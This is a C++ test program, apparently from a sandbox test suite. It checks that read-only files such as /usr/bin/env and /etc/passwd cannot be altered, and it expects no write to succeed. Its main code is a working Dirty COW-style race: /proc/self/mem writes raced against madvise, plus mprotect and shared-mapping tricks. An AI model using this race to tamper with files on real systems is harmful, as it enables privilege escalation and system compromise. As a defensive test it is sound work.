// Writes into pages of read-only files that all runs have in memory once: through /proc/self/mem, with madvise in a race, by
// mprotect of shared pages, by reading into them. Its own copy may change, the file never.
// hole: CVE-2016-5195 (Linux, Dirty COW): the race wrote to the file
// hole: CVE-2026-31431 (Linux, Copy Fail): runs of one image share its pages, so one could plant code in the libc of all
// stopped by: outer root, filter
// expect: {"status": "ok", "stdout": "nothing\n", "stderr": ""}
#include <initializer_list>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
static char* at;
static volatile bool over;
static void* forget(void*) {
    while (!over) madvise(at, 4096, MADV_DONTNEED);
    return nullptr;
}
static int found;
static void mark(const char* path) {
    int fd = open(path, O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
    char before[4096], now[4096];
    ssize_t size = pread(fd, before, sizeof before, 0);
    if (size <= 0 || mem < 0) { found++, printf("cannot try %s\n", path); return; }
    for (int kind : {MAP_PRIVATE, MAP_SHARED}) {
        at = (char*)mmap(nullptr, 4096, PROT_READ, kind, fd, 0);
        if (at == MAP_FAILED) { found++, perror(path); continue; }
        over = false;
        pthread_t thread;
        pthread_create(&thread, nullptr, forget, nullptr);
        for (int i = 0; i < 300; i++) {
            if (pwrite(mem, "MARKMARK", 8, (off_t)at) == 8 && kind == MAP_SHARED) found++, printf("wrote to shared pages of %s\n", path), i = 300;
            if (i % 100 == 99 && (lseek(fd, 0, SEEK_SET), read(open("/dev/zero", O_RDONLY), at, 8)) > 0) found++, puts("read into them");
        }
        over = true;
        pthread_join(thread, nullptr);
        if (!mprotect(at, 4096, PROT_READ | PROT_WRITE) && kind == MAP_SHARED) found++, printf("shared pages of %s are writable\n", path);
        munmap(at, 4096);
    }
    if (mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED) found++, printf("mapped %s for writing\n", path);
    usleep(20000);
    int again = open(path, O_RDONLY);
    if (pread(again, now, size, 0) != size || memcmp(before, now, size)) found++, printf("%s has changed\n", path);
    if (memmem(now, size, "MARKMARK", 8)) found++, printf("%s bears a mark\n", path);
    close(fd), close(mem), close(again);
}
int main() {
    for (const char* path : {"/usr/bin/env", "/usr/bin/id", "/etc/group", "/etc/passwd"}) mark(path);
    if (!found) puts("nothing");
}
